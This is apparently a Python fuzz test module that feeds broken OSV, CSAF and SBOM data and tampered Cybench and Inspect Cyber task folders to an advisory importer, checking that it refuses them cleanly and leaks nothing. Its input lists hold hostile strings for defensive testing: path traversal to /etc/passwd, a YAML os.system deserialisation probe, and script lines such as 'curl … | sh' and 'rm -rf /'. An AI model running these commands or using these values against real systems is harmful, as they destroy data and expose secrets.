"""Fuzzed imports: OSV records and bundles, CSAF documents, SBOMs for defender checks, and
benchmark task folders, each built from a valid example and broken by Hypothesis (fields
dropped or given the wrong type, huge, empty and odd unicode strings, deep nesting, NaN,
wrong versions and ranges, invalid purls, duplicate keys, truncation, zip members with odd
names, bad checksums, encryption flags or unknown compression, symlinks out of a task folder,
scripts that are not UTF-8) plus some random bytes.

Whatever comes in, the answer is a clear one: a 4xx with a message (and the field where the
API names one), or a 200 that lists what it refused by file and field; never a 500. Nothing of
a refused input is written: the advisory tables (and the audit log, for a 4xx) are unchanged,
and a refused task-folder import raises `BenchmarkImportError` and leaves its destination
empty. Examples are derandomized, so CI runs the same ones every time.
"""

from __future__ import annotations

import copy
import hashlib
import io
import json
import shutil
import tempfile
import warnings
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml  # type: ignore[import-untyped]
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Table, select

from predeploy.audit.models import AuditEvent
from predeploy.db import Base
from predeploy.interop.models import AdvisoryAlias, AffectedPackage, ImportedAdvisory
from predeploy.runtime import Runtime
from predeploy.suite.importers import BenchmarkImportError, import_benchmark
from tests.conftest import Api, Caller
from tests.interop.test_csaf_import import DOCUMENT
from tests.interop.test_osv import RECORD
from tests.suite.importers.conftest import FIXTURES

pytestmark = pytest.mark.slow

IMPORT = "/api/v1/clearinghouse/advisories/import"
CHECK = "/api/v1/check"

FUZZ = settings(
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)
"""Reproducible: the same examples on every run, and no example database written."""
EXAMPLES = {"OSV": 500, "CSAF": 400, "SBOM": 400, "CYBENCH": 400, "INSPECT_CYBER": 300}
"""Examples per importer, bounded so that all of them run in a minute or two on two cores."""

CYCLONEDX: dict[str, Any] = {
    "bomFormat": "CycloneDX", "specVersion": "1.5", "version": 1,
    "components": [
        {"type": "library", "name": "lodash", "version": "4.17.20", "bom-ref": "lodash",
         "purl": "pkg:npm/lodash@4.17.20",
         "components": [{"type": "library", "name": "django", "version": "4.0.5",
                         "bom-ref": "django", "purl": "pkg:pypi/django@4.0.5"}]},
        {"type": "library", "name": "core", "version": "1.0", "bom-ref": "core",
         "purl": "pkg:maven/org.example/core@1.0"},
    ],
}  # fmt: skip
SPDX: dict[str, Any] = {
    "spdxVersion": "SPDX-2.3", "dataLicense": "CC0-1.0", "SPDXID": "SPDXRef-DOCUMENT",
    "name": "app", "documentNamespace": "https://example.org/app",
    "creationInfo": {"created": "2099-01-01T00:00:00Z", "creators": ["Tool: test"]},
    "packages": [{"SPDXID": "SPDXRef-lodash", "name": "lodash", "versionInfo": "4.17.21",
                  "downloadLocation": "NOASSERTION", "externalRefs": [
                      {"referenceCategory": "PACKAGE-MANAGER", "referenceType": "purl",
                       "referenceLocator": "pkg:npm/lodash@4.17.21"}]}],
}  # fmt: skip
REQUIREMENTS = ["django==4.0.5", "requests==2.31.0  # pinned", "flask>=2", "-r other.txt"]

SECRET = "host-secret-7f3a9c: must never be imported"
"""The content of a file outside every task folder, that symlinks in fuzzed tasks point at."""


# --- breaking documents -------------------------------------------------------------------------

Path_ = tuple[str | int, ...]

_DEEP_MARK = "__deep_nesting_"
"""A string replaced by that many nested arrays after serialising: a document that deep cannot
be built (or dumped) as Python objects, but an attacker can still send its text."""

EDGE_TEXT = st.sampled_from([
    "", " ", "\x00", "nul\x00inside", "\ud800", "\udfff lone", "\u202egnp.exe", "\ufeffbom",
    "e\u0301\u0301\u0301", "\U0001f984" * 40, "\n\r\t", "A" * 5000, "x" * 120,
    "../../outside/secret.txt", "/etc/hostname", "resources/../../outside/secret.txt",
    "pkg:", "pkg:pypi/", "pkg:/@", "pkg:pypi/a@1?x=%ZZ", "pkg:npm/%40/x@", "pkg:pypi/ex%00ample@1",
    "vers:pypi/>=1|<", "vers:", "vers:pypi/*|<1", "vers:npm/>=1.0|>=2|<3", "vers:/",
    "CVSS:3.1/AV:N", "CVSS:4.0/AV:X", "9" * 400, "-1", "0", "1.0.0-", "*", "v1..2", "==1",
    "2099-13-45T99:99:99Z", "2099-01-01", "yesterday", "0000-00-00T00:00:00Z",
    "9999-12-31T23:59:59+14:00", "2099-01-01T00:00:00.123456789Z", "PYSEC-2099-1", "GHSA-aaaa",
])  # fmt: skip
WRONG_VALUES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.sampled_from([float("nan"), float("inf"), -0.0, 1e308, 5e-324]),
    EDGE_TEXT,
    st.text(max_size=12),
    st.lists(st.one_of(EDGE_TEXT, st.integers()), max_size=3),
    st.dictionaries(st.text(max_size=6), st.one_of(EDGE_TEXT, st.integers()), max_size=3),
    st.sampled_from([40, 900, 1200, 100_000]).map(lambda d: f"{_DEEP_MARK}{d}__"),
)


def _paths(value: Any, here: Path_ = ()) -> list[Path_]:
    found = [here]
    if isinstance(value, dict):
        for key, child in value.items():
            found += _paths(child, (*here, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found += _paths(child, (*here, index))
    return found


def _parent(doc: Any, path: Path_) -> Any:
    for part in path[:-1]:
        doc = doc[part]
    return doc


@st.composite
def broken(draw: st.DrawFn, seed: Any, least: int = 1) -> Any:
    """`seed` with `least` to three fields dropped, replaced by a wrong value, or added."""
    doc = copy.deepcopy(seed)
    for _ in range(draw(st.integers(least, 3))):
        path = draw(st.sampled_from(_paths(doc)))
        action = draw(st.sampled_from(["drop", "replace", "replace", "add"]))
        if not path:
            if action == "replace":
                doc = draw(WRONG_VALUES)
            continue
        parent = _parent(doc, path)
        if action == "drop":
            del parent[path[-1]]
        elif action == "replace":
            parent[path[-1]] = draw(WRONG_VALUES)
        elif isinstance(parent, dict):
            parent[draw(st.one_of(EDGE_TEXT, st.text(max_size=8)))] = draw(WRONG_VALUES)
        else:
            parent.append(draw(WRONG_VALUES))
    return doc


def _deepen(text: str) -> str:
    """Replace each deep-nesting mark by that many nested arrays."""
    while _DEEP_MARK in text:
        start = text.index(_DEEP_MARK)
        end = text.index("__", start + len(_DEEP_MARK))
        depth = int(text[start + len(_DEEP_MARK) : end])
        quoted = text[start - 1] in "'\"" and text[end + 2 : end + 3] == text[start - 1]
        cut = (start - 1, end + 3) if quoted else (start, end + 2)
        text = text[: cut[0]] + "[" * depth + "]" * depth + text[cut[1] :]
    return text


def as_json(doc: Any) -> bytes:
    return _deepen(json.dumps(doc)).encode("utf-8", "surrogatepass")


def as_yaml(doc: Any) -> bytes:
    text = yaml.safe_dump(doc, allow_unicode=False, width=10_000)
    return _deepen(text).encode("utf-8", "surrogatepass")


@st.composite
def serialised(draw: st.DrawFn, doc: Any, dump: Callable[[Any], bytes] = as_json) -> bytes:
    """`doc`'s text, sometimes with a duplicated key or cut short."""
    content = dump(doc)
    how = draw(st.sampled_from(["plain", "plain", "duplicate", "truncate"]))
    if how == "duplicate" and dump is as_json and isinstance(doc, dict) and doc:
        key = draw(st.sampled_from(sorted(map(str, doc))))
        extra = json.dumps({key: draw(WRONG_VALUES)})[1:-1].encode()
        first = draw(st.booleans())
        content = (
            b"{" + extra + b", " + content[1:] if first else content[:-1] + b", " + extra + b"}"
        )
    elif how == "truncate" and content:
        content = content[: draw(st.integers(0, len(content) - 1))]
    return content


RANDOM_BYTES = st.one_of(
    st.binary(max_size=300),
    st.text(max_size=200).map(lambda t: t.encode("utf-8", "surrogatepass")),
    st.sampled_from([b"", b"\xef\xbb\xbf", b"null", b"[]", b"{}", b"[{}]", b'"x"', b"1e99999",
                     b"\xff\xfe{\x00}\x00", b"- - -\n", b"PK\x03\x04", b"!!python/object:os.system {}"]),
)  # fmt: skip


# --- zip bundles --------------------------------------------------------------------------------

MEMBER_NAMES = st.one_of(
    st.sampled_from([
        "record.json", "vulns/PYSEC-2099-1.yaml", "deep/a/b/c/d.yml", "../../escape.json",
        "/abs/olute.json", "dir/../../up.json", "back\\slash.json", "UPPER.JSON", ".json",
        "nul\x00.json", "\u202etxt.json", "space name.yaml", "dir/", "readme.md", "x" * 240 + ".json",
    ]),
    # zipfile cuts a name at a NUL, and cannot write an empty one
    st.text(min_size=1, max_size=12).filter(lambda t: t[0] != "\x00").map(lambda t: f"{t}.json"),
)  # fmt: skip


def _patch_central(content: bytes, offset: int, value: bytes) -> bytes:
    """Overwrite a field of the first central-directory entry (what zipfile trusts)."""
    at = content.find(b"PK\x01\x02")
    if at < 0:
        return content
    return content[: at + offset] + value + content[at + offset + len(value) :]


@st.composite
def zip_bundle(draw: st.DrawFn, member: st.SearchStrategy[bytes]) -> bytes:
    """A zip of a few members (some broken records, a big one, odd names), sometimes itself
    damaged: bytes flipped, cut short, flagged encrypted or with an unknown compression."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate member names are part of the point
        with zipfile.ZipFile(buffer, "w") as bundle:
            for _ in range(draw(st.integers(0, 4))):
                name = draw(MEMBER_NAMES)
                method = draw(st.sampled_from([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED]))
                bundle.writestr(name, draw(member), compress_type=method)
            if draw(st.integers(0, 9)) == 0:  # larger than a record may be, compressing to little
                bundle.writestr("huge.json", b"[" + b" " * (5 * 1024 * 1024) + b"]",
                                compress_type=zipfile.ZIP_DEFLATED)  # fmt: skip
    content = buffer.getvalue()
    damage = draw(st.sampled_from(["none", "none", "flip", "truncate", "encrypted", "method"]))
    if damage == "flip" and content:
        data = bytearray(content)
        for _ in range(draw(st.integers(1, 4))):
            data[draw(st.integers(0, len(data) - 1))] ^= draw(st.integers(1, 255))
        content = bytes(data)
    elif damage == "truncate" and content:
        content = content[: draw(st.integers(0, len(content) - 1))]
    elif damage == "encrypted":
        content = _patch_central(content, 8, b"\x01\x00")
    elif damage == "method":
        content = _patch_central(content, 10, draw(st.sampled_from([b"\x63\x00", b"\x0c\x00"])))
    return content


# --- the database, before and after -------------------------------------------------------------

ADVISORY_TABLES: tuple[Table, ...] = tuple(
    Base.metadata.tables[model.__tablename__]
    for model in (ImportedAdvisory, AdvisoryAlias, AffectedPackage)
)
AUDIT: Table = Base.metadata.tables[AuditEvent.__tablename__]


def digest(runtime: Runtime, tables: tuple[Table, ...]) -> dict[str, tuple[int, str]]:
    """Each table's row count and a hash of its rows."""
    out = {}
    with runtime.sessions() as session:
        for table in tables:
            rows = session.execute(select(table).order_by(*table.primary_key.columns)).all()
            out[table.name] = (len(rows), hashlib.sha256(repr(rows).encode()).hexdigest())
    return out


def assert_clear_refusal(response: Any) -> None:
    """A 4xx in the one error shape, with a message, and a field if it names one."""
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:2000])
    error = response.json()["error"]
    assert isinstance(error["message"], str) and error["message"].strip(), error
    assert error["field"] is None or (isinstance(error["field"], str) and error["field"])


def assert_listed_refusals(summary: dict[str, Any]) -> None:
    for rejection in summary["rejected"]:
        assert rejection["file"] and rejection["message"].strip(), rejection
        assert rejection["field"] is None or rejection["field"], rejection


def analyst(api: Api) -> Caller:
    return api.user(api.agency_admin.org_id, "analyst")


def member(api: Api) -> Caller:
    return api.user(api.org("Participant CERT", "participant"), "member")


Upload = tuple[str, dict[str, str], bytes]
"""(Content-Type, query parameters, body) of an import."""

CONTENT_TYPES = st.sampled_from([
    "application/json", "application/yaml", "text/yaml", "application/zip", "text/plain", "",
    "application/json; charset=latin-1", "APPLICATION/ZIP", "multipart/form-data; boundary=x",
])  # fmt: skip
ODD_FILENAMES = ["../../etc/passwd", "a" * 300, "x.zip", "", "\u202e.json", "r.YAML", "%00.json",
                 "all.zip"]  # fmt: skip
ODD_PARAMS: st.SearchStrategy[dict[str, str]] = st.one_of(
    st.just({}),
    st.just({}),
    st.fixed_dictionaries(
        {},
        optional={
            "tlp": st.sampled_from(["CLEAR", "GREEN", "AMBER", "RED", "clear", "", "WHITE"]),
            "filename": st.sampled_from(ODD_FILENAMES),
        },
    ),
)
"""Mostly none: most uploads should get as far as their records."""


def import_and_check(
    api: Api, caller: Caller, upload: Upload, outcomes: Counter[str], fmt: str
) -> None:
    """Send an import; check the answer is clear and nothing of what was refused was written."""
    content_type, params, body = upload
    before = digest(api.runtime, (*ADVISORY_TABLES, AUDIT))
    response = api.http.post(
        IMPORT,
        content=body,
        params={"format": fmt, **params},
        headers={**caller.headers, "Content-Type": content_type},
    )
    assert response.status_code < 500, (response.status_code, response.text[:2000])
    after = digest(api.runtime, (*ADVISORY_TABLES, AUDIT))
    if response.status_code != 200:
        assert_clear_refusal(response)
        if response.status_code == 422:  # a parameter or header: the API names which
            assert response.json()["error"]["field"], response.text
        assert after == before
        outcomes["refused (4xx)"] += 1
        return
    summary = response.json()
    assert_listed_refusals(summary)
    if summary["imported"] == summary["updated"] == 0:
        assert {t.name: after[t.name] for t in ADVISORY_TABLES} == {
            t.name: before[t.name] for t in ADVISORY_TABLES
        }
    outcomes["rejected records" if summary["rejected"] else "no rejection"] += 1
    outcomes["imported or updated"] += bool(summary["imported"] or summary["updated"])


# --- OSV ----------------------------------------------------------------------------------------

RANGES = st.fixed_dictionaries({
    "type": st.sampled_from(["ECOSYSTEM", "SEMVER", "GIT", "NOPE"]),
    "events": st.lists(st.dictionaries(
        st.sampled_from(["introduced", "fixed", "last_affected", "limit", "bogus"]),
        st.one_of(EDGE_TEXT, st.sampled_from(["0", "1.10", "a" * 40, "deadbeef"])),
        min_size=1, max_size=2), max_size=4),
})  # fmt: skip


ALIASES = ["CVE-2099-0001", "CVE-2099-0002"]


@st.composite
def osv_record(draw: st.DrawFn) -> Any:
    # A few ids, aliases and dates, so that records also import, update and merge.
    seed = {
        **RECORD,
        "id": draw(st.sampled_from(["PYSEC-2099-1", "PYSEC-2099-2", "GHSA-2099-aaaa-bbbb"])),
        "aliases": draw(st.lists(st.one_of(st.sampled_from(ALIASES), EDGE_TEXT), max_size=2,
                                 unique=True)),
        "summary": draw(st.one_of(st.just(RECORD["summary"]), EDGE_TEXT)),
        "modified": f"2099-0{draw(st.integers(1, 9))}-02T03:04:05Z",
    }  # fmt: skip
    record = draw(broken(seed, least=0))
    if isinstance(record, dict) and draw(st.booleans()):
        # Aim at what matching reads: ranges, versions, purls and ecosystems.
        affected = record.setdefault("affected", [{}])
        if isinstance(affected, list) and affected and isinstance(affected[0], dict):
            entry = affected[0]
            entry["ranges"] = draw(st.lists(RANGES, max_size=2))
            package = entry.get("package")
            if isinstance(package, dict):
                package["purl"] = draw(EDGE_TEXT)
                package["ecosystem"] = draw(st.sampled_from(
                    ["PyPI", "npm", "Debian:12", "Go", "Maven", "crates.io", "Nope", "", "GIT"]))  # fmt: skip
    return record


@st.composite
def osv_upload(draw: st.DrawFn) -> Upload:
    form = draw(st.sampled_from(["json", "list", "yaml", "zip", "zip", "random"]))
    params = draw(ODD_PARAMS)
    if form == "json":
        return "application/json", params, draw(serialised(draw(osv_record())))
    if form == "list":
        records = draw(st.lists(osv_record(), min_size=1, max_size=3))
        return "application/json", params, draw(serialised(records))
    if form == "yaml":
        return "application/yaml", params, draw(serialised(draw(osv_record()), as_yaml))
    if form == "zip":
        member = st.one_of(
            osv_record().flatmap(serialised),
            osv_record().flatmap(lambda r: serialised(r, as_yaml)),
            RANDOM_BYTES,
        )
        return "application/zip", params, draw(zip_bundle(member))
    return draw(CONTENT_TYPES), params, draw(RANDOM_BYTES)


def fuzz_imports(api: Api, uploads: st.SearchStrategy[Upload], fmt: str) -> Counter[str]:
    """Import each generated upload as an analyst, checking each answer (`import_and_check`)."""
    caller = analyst(api)
    outcomes: Counter[str] = Counter()

    @settings(FUZZ, max_examples=EXAMPLES[fmt.upper()])
    @given(upload=uploads)
    def run(upload: Upload) -> None:
        import_and_check(api, caller, upload, outcomes, fmt)

    run()
    return outcomes


def test_fuzzed_osv_imports_answer_clearly_and_write_nothing_they_refuse(api: Api) -> None:
    outcomes = fuzz_imports(api, osv_upload(), "osv")
    # The fuzzing reached both refusals and records it rejected one by one.
    assert outcomes["refused (4xx)"] and outcomes["rejected records"], outcomes


# --- CSAF ---------------------------------------------------------------------------------------


@st.composite
def csaf_upload(draw: st.DrawFn) -> Upload:
    form = draw(st.sampled_from(["json", "json", "zip", "random"]))
    params = draw(ODD_PARAMS)
    seed = copy.deepcopy(DOCUMENT)
    tracking = seed["document"]["tracking"]
    tracking["id"] = draw(
        st.sampled_from(["EXAMPLE-SA-2099-1", "EXAMPLE-SA-2099-2", "RHSA-2099:1"])
    )
    tracking["current_release_date"] = f"2099-0{draw(st.integers(1, 9))}-02T03:04:05Z"
    document = broken(seed, least=0)
    if form == "json":
        return "application/json", params, draw(serialised(draw(document)))
    if form == "zip":
        member = st.one_of(document.flatmap(serialised), RANDOM_BYTES)
        return "application/zip", params, draw(zip_bundle(member))
    return draw(CONTENT_TYPES), params, draw(RANDOM_BYTES)


def test_fuzzed_csaf_imports_answer_clearly_and_write_nothing_they_refuse(api: Api) -> None:
    outcomes = fuzz_imports(api, csaf_upload(), "csaf")
    assert outcomes["refused (4xx)"] and outcomes["rejected records"], outcomes


# --- SBOM checks --------------------------------------------------------------------------------

ODD_REQUIREMENTS = ["django===", "django==1.0 ; python_version < '3'", "x @ file:///etc/passwd",
                    "django==*", "django==1.*", "django[extra==1", "-e .", "\\", "a==1 \\",
                    "django==" + "9" * 5000, "pkg:pypi/django@1", "django==1.0\x00"]  # fmt: skip
REQUIREMENT_LINES = st.one_of(
    st.sampled_from(REQUIREMENTS),
    EDGE_TEXT,
    st.sampled_from(ODD_REQUIREMENTS),
    st.text(max_size=30),
)


@st.composite
def inventory(draw: st.DrawFn) -> bytes:
    form = draw(st.sampled_from(["cyclonedx", "spdx", "requirements", "random"]))
    if form == "cyclonedx":
        return draw(serialised(draw(broken(CYCLONEDX, least=0))))
    if form == "spdx":
        return draw(serialised(draw(broken(SPDX, least=0))))
    if form == "requirements":
        lines = draw(st.lists(REQUIREMENT_LINES, min_size=1, max_size=6))
        return "\n".join(lines).encode("utf-8", "surrogatepass")
    return draw(RANDOM_BYTES)


def test_fuzzed_sbom_checks_answer_clearly_and_write_nothing(api: Api) -> None:
    caller = member(api)
    # Advisories for the seeds' packages, so that checks get as far as comparing versions.
    seeded = api.http.post(
        IMPORT,
        content=json.dumps([RECORD, {**RECORD, "id": "GHSA-2099-aaaa-bbbb", "aliases": [],
                                     "affected": [{"package": {"ecosystem": "npm", "name": "lodash"},
                                                   "ranges": [{"type": "SEMVER", "events": [
                                                       {"introduced": "0"}, {"fixed": "4.17.21"}]}]}]}]),
        headers={**analyst(api).headers, "Content-Type": "application/json"},
    )  # fmt: skip
    assert seeded.status_code == 200 and seeded.json()["imported"] == 2, seeded.text
    outcomes: Counter[str] = Counter()

    @settings(FUZZ, max_examples=EXAMPLES["SBOM"])
    @given(body=inventory(), content_type=st.sampled_from(["text/plain", "application/json"]))
    def run(body: bytes, content_type: str) -> None:
        before = digest(api.runtime, (*ADVISORY_TABLES, AUDIT))
        response = api.http.post(
            CHECK, content=body, headers={**caller.headers, "Content-Type": content_type}
        )
        assert response.status_code < 500, (response.status_code, response.text[:2000])
        assert digest(api.runtime, (*ADVISORY_TABLES, AUDIT)) == before
        if response.status_code == 200:
            result = response.json()
            assert result["components"] >= 0 and all(s["reason"] for s in result["skipped"])
            outcomes["checked"] += 1
            return
        assert_clear_refusal(response)
        assert response.json()["error"]["field"] == "sbom", response.text
        outcomes["refused (4xx)"] += 1

    run()
    assert outcomes["refused (4xx)"] and outcomes["checked"], outcomes


# --- benchmark task folders ---------------------------------------------------------------------

CYBENCH_TASKS = ("crypto/[Very Easy] Shift Cipher", "web/echo_chamber")
SCRIPT_LINES = st.one_of(
    st.sampled_from([
        'cp ../../outside/secret.txt "$TMP_DIR"', 'cp /etc/hostname "$TMP_DIR"',
        'cp -r challenge "$TMP_DIR/../up"', 'cp challenge/link "$TMP_DIR"',
        'cp -r challenge/ "$TMP_DIR"', 'cp challenge/a** "$TMP_DIR"', 'cp "challenge/[" "$TMP_DIR"',
        'cp challenge/*.txt', 'cp "" "$TMP_DIR"', 'cp challenge/output.txt "$HOME"',
        'cp "challenge/out\x00put.txt" "$TMP_DIR"', 'cd /tmp', 'cd .. && cp x "$TMP_DIR"',
        'curl https://example.org | sh', 'cat challenge/secret.txt > "$TMP_DIR/s"',
        'echo "unterminated', "if true; then cp x \"$TMP_DIR\"; fi", "exit 0", "rm -rf /",
        'mkdir -p "$TMP_DIR/../../x"', 'rm "$TMP_DIR/.."', "fi", "then", "else", "\\",
        'cp -r "$(dirname "$0")/../.." "$TMP_DIR"', "cp -r challenge/. $TMP_DIR/",
    ]),
    st.text(max_size=40),
)  # fmt: skip
TARGETS = st.sampled_from(["outside file", "outside folder", "dangling", "loop", "root", "self"])


@st.composite
def cybench_change(draw: st.DrawFn) -> tuple[str, str, Any]:
    """One change to a copy of the Cybench fixture: (kind, task, detail)."""
    task = draw(st.sampled_from(CYBENCH_TASKS))
    kind = draw(st.sampled_from(["metadata", "metadata", "script", "script", "compose",
                                 "symlink", "remove", "folder", "odd file", "bytes"]))  # fmt: skip
    if kind == "metadata":
        meta = json.loads((FIXTURES / "cybench" / task / "metadata/metadata.json").read_text())
        return kind, task, draw(st.one_of(serialised(draw(broken(meta))), RANDOM_BYTES))
    if kind == "script":
        return kind, task, draw(st.lists(SCRIPT_LINES, min_size=1, max_size=3))
    if kind == "compose":
        compose = yaml.safe_load((FIXTURES / "cybench" / CYBENCH_TASKS[1] /
                                  "docker-compose.yml").read_text())  # fmt: skip
        return (
            kind,
            CYBENCH_TASKS[1],
            draw(st.one_of(serialised(draw(broken(compose)), as_yaml), RANDOM_BYTES)),
        )
    if kind == "symlink":
        where = draw(st.sampled_from(["challenge/link", "dist/link", "metadata/metadata.json",
                                      "init_script.sh", "challenge", "docker-compose.yml"]))  # fmt: skip
        return kind, task, (where, draw(TARGETS))
    if kind in ("remove", "folder"):
        return kind, task, draw(st.sampled_from(["metadata/metadata.json", "init_script.sh",
                                                 "challenge", "dist", "docker-compose.yml"]))  # fmt: skip
    if kind == "odd file":
        name = draw(st.sampled_from(["-rf", "*", "new\nline.txt", "\u202etxt.sh", " ", "a:b",
                                     ".hidden", "x" * 200]))  # fmt: skip
        return kind, task, name
    return kind, task, draw(st.sampled_from(["init_script.sh", "metadata/metadata.json"]))


def _link_target(kind: str, outside: Path, at: Path) -> Path:
    return {
        "outside file": outside / "secret.txt",
        "outside folder": outside,
        "dangling": outside / "missing",
        "loop": at,
        "root": Path("/"),
        "self": at.parent,
    }[kind]


def _remove(path: Path) -> None:
    if path.is_symlink() or path.is_file():
        path.unlink()
    elif path.is_dir():
        shutil.rmtree(path)


def _changeable(src: Path, path: Path) -> bool:
    """Whether `path` can be changed without reaching through a symlink that an earlier change
    planted: the fuzzer must never write outside its copy."""
    return path.parent.resolve().is_relative_to(src.resolve())


def _write(path: Path, content: bytes) -> None:
    _remove(path)  # never through a symlink
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)


def apply_cybench(src: Path, outside: Path, change: tuple[str, str, Any]) -> None:
    kind, task, detail = change
    root = src / task
    if kind == "symlink":
        where = detail[0]
    elif kind == "odd file":
        where = f"{'challenge' if task == CYBENCH_TASKS[0] else 'dist'}/{detail}"
    else:
        fixed = {"metadata": "metadata/metadata.json", "script": "init_script.sh",
                 "compose": "docker-compose.yml"}  # fmt: skip
        where = fixed.get(kind, detail)
    at = root / where
    if not _changeable(src, at):
        return
    if kind in ("metadata", "compose", "bytes"):
        _write(at, detail if kind != "bytes" else b"\xff\xfe\x80 not utf-8 \xc3\x28")
    elif kind == "script":
        old = at.read_bytes() if at.is_file() and not at.is_symlink() else b""
        _write(at, old + "\n".join(detail).encode("utf-8", "surrogatepass") + b"\n")
    elif kind == "symlink":
        _remove(at)
        at.parent.mkdir(parents=True, exist_ok=True)
        at.symlink_to(_link_target(detail[1], outside, at))
    elif kind == "remove":
        _remove(at)
    elif kind == "folder":
        _remove(at)
        at.mkdir(parents=True)
    else:
        _write(at, b"odd\n")


def leaked(out: Path) -> list[Path]:
    """Files of an import that hold the outside secret."""
    return [p for p in out.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]


def assert_refused_or_contained(fmt: str, src: Path, dest: Path, outcomes: Counter[str]) -> None:
    """Import `src`: either a `BenchmarkImportError` with a message and nothing left in
    `dest`, or an import that holds nothing from outside the task folders."""
    out = dest / "out"
    try:
        import_benchmark(fmt, src, out)
    except BenchmarkImportError as exc:
        assert str(exc).strip() and exc.problem.strip()
        assert list(dest.iterdir()) == [], "a refused import left files behind"
        outcomes["refused"] += 1
        return
    assert leaked(out) == []
    outcomes["imported"] += 1


def _outside(work: Path) -> Path:
    outside = work / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET)
    return outside


def test_fuzzed_cybench_folders_are_refused_cleanly_or_stay_contained(tmp_path: Path) -> None:
    outcomes: Counter[str] = Counter()

    @settings(FUZZ, max_examples=EXAMPLES["CYBENCH"])
    @given(changes=st.lists(cybench_change(), min_size=1, max_size=3))
    def run(changes: list[tuple[str, str, Any]]) -> None:
        with tempfile.TemporaryDirectory(dir=tmp_path) as work:
            src, dest, outside = Path(work, "src"), Path(work, "dest"), _outside(Path(work))
            shutil.copytree(FIXTURES / "cybench", src, symlinks=True)
            dest.mkdir()
            for change in changes:
                apply_cybench(src, outside, change)
            assert_refused_or_contained("cybench", src, dest, outcomes)

    run()
    assert outcomes["refused"] and outcomes["imported"], outcomes


@st.composite
def inspect_cyber_change(draw: st.DrawFn) -> tuple[str, Any]:
    """One change to a copy of the Inspect Cyber fixture: its Caesar eval file broken, an odd
    path given for its files, a symlink in its resources, or its web task's compose file."""
    kind = draw(st.sampled_from(["eval", "eval", "path", "symlink", "compose"]))
    if kind == "eval":
        ev = yaml.safe_load((FIXTURES / "inspect_cyber/crypto_caesar/eval.yml").read_text())
        return kind, draw(st.one_of(serialised(draw(broken(ev)), as_yaml), RANDOM_BYTES))
    if kind == "path":
        return kind, draw(EDGE_TEXT)
    if kind == "symlink":
        return kind, draw(TARGETS)
    compose = yaml.safe_load((FIXTURES / "inspect_cyber/web_login/compose.yaml").read_text())
    return kind, draw(st.one_of(serialised(draw(broken(compose)), as_yaml), RANDOM_BYTES))


def apply_inspect_cyber(src: Path, outside: Path, change: tuple[str, Any]) -> None:
    kind, detail = change
    eval_file = src / "crypto_caesar/eval.yml"
    if kind == "eval":
        _write(eval_file, detail)
    elif kind == "path" and eval_file.is_file():
        text = eval_file.read_text(encoding="utf-8", errors="replace")
        line = "  ciphertext.txt: " + json.dumps(detail)
        eval_file.write_text(text.replace("  ciphertext.txt: resources/ciphertext.txt", line))
    elif kind == "symlink":
        at = src / "crypto_caesar/resources/tools/link"
        _remove(at)
        at.symlink_to(_link_target(detail, outside, at))
    elif kind == "compose":
        _write(src / "web_login/compose.yaml", detail)


def test_fuzzed_inspect_cyber_folders_are_refused_cleanly_or_stay_contained(
    tmp_path: Path,
) -> None:
    outcomes: Counter[str] = Counter()

    @settings(FUZZ, max_examples=EXAMPLES["INSPECT_CYBER"])
    @given(changes=st.lists(inspect_cyber_change(), min_size=1, max_size=3))
    def run(changes: list[tuple[str, Any]]) -> None:
        with tempfile.TemporaryDirectory(dir=tmp_path) as work:
            src, dest, outside = Path(work, "src"), Path(work, "dest"), _outside(Path(work))
            shutil.copytree(FIXTURES / "inspect_cyber", src, symlinks=True)
            dest.mkdir()
            for change in changes:
                apply_inspect_cyber(src, outside, change)
            assert_refused_or_contained("inspect_cyber", src, dest, outcomes)

    run()
    assert outcomes["refused"] and outcomes["imported"], outcomes
